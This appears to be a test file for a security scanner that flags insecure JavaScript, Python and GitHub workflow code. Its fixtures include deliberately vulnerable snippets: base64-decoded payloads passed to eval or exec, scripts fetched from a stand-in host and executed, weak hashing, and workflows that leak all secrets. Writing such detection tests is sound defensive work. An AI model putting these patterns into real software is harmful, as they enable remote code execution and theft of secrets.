import { expect, test } from 'vitest';
import { findInWorkflow } from './pipelines/find-in-workflow.ts';
import { pythonWeaknesses } from './python/python-weaknesses.ts';
import { weaknessesOf } from './sast/report-weaknesses.ts';
import type { Sighting } from './rules.ts';

const said = (all: readonly Sighting[] | null | undefined) =>
  (all ?? []).map(({ rule, severity }) => (severity === 'warning' ? `${rule}?` : rule));
const web = (code: string) => said(weaknessesOf('src/a.ts', code)?.sightings);
const python = (code: string) => said(pythonWeaknesses('src/a.py', `${code}\n`));
const step = (body: string) =>
  said(findInWorkflow('.github/workflows/a.yml', `on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n      - ${body}\n`));

const B64 = Buffer.from('start(process.env)').toString('base64');

test.for<[string, readonly string[]]>([
  ["import { pbkdf2Sync } from 'crypto'; pbkdf2Sync(password, salt, 1, 32, 'sha256')", ['weak-hash']],
  ["const c = require('crypto'); const ROUNDS = 500; c.pbkdf2(password, salt, ROUNDS, 32, 'sha512', done)", ['weak-hash']],
  ["crypto.subtle.deriveBits({ name: 'PBKDF2', salt, iterations: 10, hash: 'SHA-256' }, key, 256)", ['weak-hash']],
  ["import { pbkdf2Sync } from 'crypto'; pbkdf2Sync(password, salt, 600000, 32, 'sha256')", []],
  ["import { pbkdf2Sync } from 'crypto'; pbkdf2Sync(password, salt, rounds, 32, 'sha256')", []],
  ["import { pbkdf2Sync } from 'crypto'; const scrypt = () => pbkdf2Sync(password, salt, 1, 32, 'sha256');", []],
  ["import jwt from 'jsonwebtoken'; const readSession = (t) => jwt.verify(t, key, { ignoreExpiration: true });", ['jwt-not-verified']],
  ["import jwt from 'jsonwebtoken'; const refresh = (t) => jwt.verify(t, key, { ignoreExpiration: true });", ['jwt-not-verified?']],
  [
    "import jwt from 'jsonwebtoken'; function read(t) { const p = jwt.verify(t, key, { ignoreExpiration: true }); return p.exp > now() ? p : null; }",
    ['jwt-not-verified?'],
  ],
  [`eval(Buffer.from('${B64}', 'base64').toString())`, ['code-injection']],
  [`const code = atob('${B64}'); new Function(code)()`, ['code-injection']],
  [`import { execSync } from 'child_process'; execSync(Buffer.from('${B64}', 'base64').toString('utf8'))`, ['code-injection']],
  ['eval(String.fromCharCode(97, 40, 41))', ['code-injection']],
  [`JSON.parse(Buffer.from('${B64}', 'base64').toString())`, []],
  [`eval(Buffer.from(await readFile('a'), 'base64').toString())`, []],
  ["const a = await fetch('https://a.example/x.js'); new Function(await a.text())()", ['code-injection']],
  ["fetch('http://a.example/x.js').then((r) => r.text()).then((code) => eval(code))", ['code-injection']],
  ["import axios from 'axios'; const { data } = await axios.get('https://a.example/x'); eval(data)", ['code-injection']],
  ["import vm from 'vm'; const a = await fetch(url); vm.runInNewContext(await a.text())", ['code-injection?']],
  ["const a = await fetch('/own/x.js'); eval(await a.text())", []],
  ["const a = await fetch('https://a.example/x.json'); show(await a.text()); eval('1')", []],
])('%s: %s', ([code, wanted]) => expect(web(code)).toEqual(wanted));

test.for<[string, readonly string[]]>([
  ['import random\ndef make_reset_token():\n    return "".join(random.choice("0123abc") for _ in range(32))', ['weak-random']],
  ['import random\ndef make_reset_token():\n    token = "".join(random.choices(ALL, k=9))\n    return token', ['weak-random']],
  ['import random\ndef generate_password():\n    out = []\n    out.append(random.choice(ALL))\n    return out', ['weak-random']],
  ['import random\ndef make_colour():\n    return random.choice(ALL)', []],
  ['import random\nrandom = random.SystemRandom()\ndef make_token():\n    return random.choice(ALL)', []],
  ['import hashlib\nhashlib.pbkdf2_hmac("sha256", password, salt, 100)', ['weak-hash']],
  ['import hashlib\nhashlib.pbkdf2_hmac("sha256", password, salt, 600_000)', []],
  ['import paramiko\nc = paramiko.SSHClient()\nc.set_missing_host_key_policy(paramiko.AutoAddPolicy())', ['tls-not-verified']],
  [
    'import paramiko\nc = paramiko.SSHClient()\nc.load_system_host_keys()\nc.set_missing_host_key_policy(paramiko.AutoAddPolicy())',
    ['tls-not-verified?'],
  ],
  ['import paramiko\nc = paramiko.SSHClient()\nc.set_missing_host_key_policy(paramiko.RejectPolicy())', []],
  [`import base64\nexec(base64.b64decode("${B64}").decode())`, ['code-injection']],
  [`import base64, zlib\ncode = zlib.decompress(base64.b64decode(b"${B64}"))\nexec(code)`, ['code-injection']],
  ['import requests\nexec(requests.get("https://a.example/x.py").text)', ['code-injection']],
  ['import requests\nexec(requests.get(url).text)', ['code-injection?']],
  ['import requests\nprint(requests.get("https://a.example/x.py").text)\nexec("1")', []],
])('%s: %s', ([code, wanted]) => expect(python(code)).toEqual(wanted));

test.for<[string, readonly string[]]>([
  [
    'uses: a/deploy@8e5e7e5ab8b370d6c329ec480221332ada57f0ab\n        with:\n          all: ${{ toJSON(secrets) }}',
    ['workflow-all-secrets'],
  ],
  ['run: deploy\n        env:\n          ALL: ${{ toJson( secrets ) }}', ['workflow-all-secrets?']],
  ['uses: ./deploy\n        with:\n          all: ${{ toJSON(secrets) }}', ['workflow-all-secrets?']],
  ['uses: a/deploy@8e5e7e5ab8b370d6c329ec480221332ada57f0ab\n        with:\n          all: ${{ toJSON(vars) }} ${{ secrets.KEY }}', []],
])('%s: %s', ([code, wanted]) => expect(step(code)).toEqual(wanted));

test.for<[string, readonly string[]]>([
  ["import { pbkdf2Sync } from 'crypto'; // some day scrypt\npbkdf2Sync(password, salt, 1, 32, 'sha256')", ['weak-hash']],
  ["import { createHash } from 'crypto'; /* pwned? */ createHash('md5').update(password).digest('hex')", ['weak-hash']],
  ["import jwt from 'jsonwebtoken'; const who = (req) => jwt.decode(req.headers.token); // verify later", ['jwt-not-verified']],
  [
    "import jwt from 'jsonwebtoken'; const who = (t) => /* never expires */ jwt.verify(t, key, { ignoreExpiration: true });",
    ['jwt-not-verified'],
  ],
  [
    "import express from 'express'; app.get('/', (req, res) => res.send(req.query.a)); // content-type: as it comes",
    ['cross-site-scripting'],
  ],
])('a comment excuses nothing: %s', ([code, wanted]) => expect(web(code)).toEqual(wanted));

test.for<[string, readonly string[]]>([
  ["import { pbkdf2Sync } from 'crypto'; const names = ['scrypt']; pbkdf2Sync(password, salt, 1, 32, 'sha256')", ['weak-hash']],
  [
    "import { pbkdf2Sync } from 'crypto'; const make = (p) => { use('scrypt'); return pbkdf2Sync(p, salt, 1, 32, 'sha256'); };",
    ['weak-hash'],
  ],
  [
    "import { createHash } from 'crypto'; show('you were pwned'); const f = (password) => createHash('md5').update(password).digest('hex');",
    ['weak-hash'],
  ],
  ["import { createHash } from 'crypto'; const isPwned = (password) => createHash('sha1').update(password).digest('hex');", ['weak-hash?']],
  [
    "import { createHash } from 'crypto'; const f = (password) => { const d = createHash('sha1').update(password).digest('hex'); return ask(d.slice(0, 5)); };",
    ['weak-hash?'],
  ],
  [
    "import express from 'express'; const type = 'content-type'; app.get('/', (req, res) => res.send(req.query.a));",
    ['cross-site-scripting'],
  ],
  [
    "import express from 'express'; app.get('/', (req, res) => { log(req.headers['content-type']); res.send(req.query.a); });",
    ['cross-site-scripting'],
  ],
  [
    "import express from 'express'; app.get('/', (req, res) => { res.set('Content-Type', 'text/html'); res.send(req.query.a); });",
    ['cross-site-scripting'],
  ],
  ["import express from 'express'; app.get('/', (req, res) => { res.set('Content-Type', 'text/plain'); res.send(req.query.a); });", []],
  ["import express from 'express'; app.get('/', (req, res) => { res.type('json').send(req.query.a); });", []],
])('nor does a word elsewhere in the file: %s', ([code, wanted]) => expect(web(code)).toEqual(wanted));

const EVAL = (branch: string) => `app.get('/', (req, res) => { if (!NAMES.includes(req.query.a)) ${branch} eval(req.query.a); });`;

test.for<[string, readonly string[]]>([
  ["log.error('no');", ['code-injection']],
  ["{ req.log.error('no'); }", ['code-injection']],
  ["this.logger.fail('no');", ['code-injection']],
  ["console.error('no');", ['code-injection']],
  ["winston.createLogger().error('no');", ['code-injection']],
  ['span.end();', ['code-injection']],
  ["{ log.error('no'); return; }", []],
  ["error('no');", []],
  ['res.status(400).json({});', []],
  ["assert.fail('no');", []],
])('a check that only writes down what it found is none: %s', ([branch, wanted]) => expect(web(EVAL(branch))).toEqual(wanted));

test.for<[string, readonly string[]]>([
  ['import random\n# no SystemRandom here\ndef make_token():\n    return random.choice(ALL)', ['weak-random']],
  ['import random\ndef make_token():\n    "Without SystemRandom."\n    return random.choice(ALL)', ['weak-random']],
  [
    'import paramiko\nc = paramiko.SSHClient()  # load_host_keys() comes later\nc.set_missing_host_key_policy(paramiko.AutoAddPolicy())',
    ['tls-not-verified'],
  ],
])('nor does one of Python, or a text: %s', ([code, wanted]) => expect(python(code)).toEqual(wanted));

test('what is given the same again and again is opened once', () => {
  const lines = Array.from({ length: 6 }, (_, index) => `a${index + 1} = f(${Array(60).fill(`a${index}`).join(', ')})`);
  expect(python(`import base64\na0 = base64.b64decode("${B64}")\n${lines.join('\n')}\nexec(a6)`)).toEqual(['code-injection']);
});

test.for<[string, readonly string[]]>([
  [
    'env: { ALL: "${{ toJSON(secrets) }}" }\njobs: { a: { steps: [{ uses: a/b@v1 }] } }',
    ['workflow-all-secrets', 'workflow-unpinned-action'],
  ],
  ['jobs: { a: { env: { ALL: "${{ toJSON(secrets) }}" }, steps: [{ run: make }, { uses: "docker://a/b" }] } }', ['workflow-all-secrets']],
  [
    'jobs: { a: { env: { ALL: "${{ toJSON(secrets) }}" }, steps: [{ run: make }, { uses: actions/checkout@v4 }] } }',
    ['workflow-all-secrets?'],
  ],
  ['jobs: { a: { steps: [{ run: "make ${{ join(secrets.*) }}" }] } }', ['workflow-all-secrets?']],
  ['jobs: { a: { steps: [{ run: cat secrets.* }] } }', []],
])('%s: %s', ([code, wanted]) => expect(said(findInWorkflow('.github/workflows/a.yml', `on: push\n${code}\n`))).toEqual(wanted));
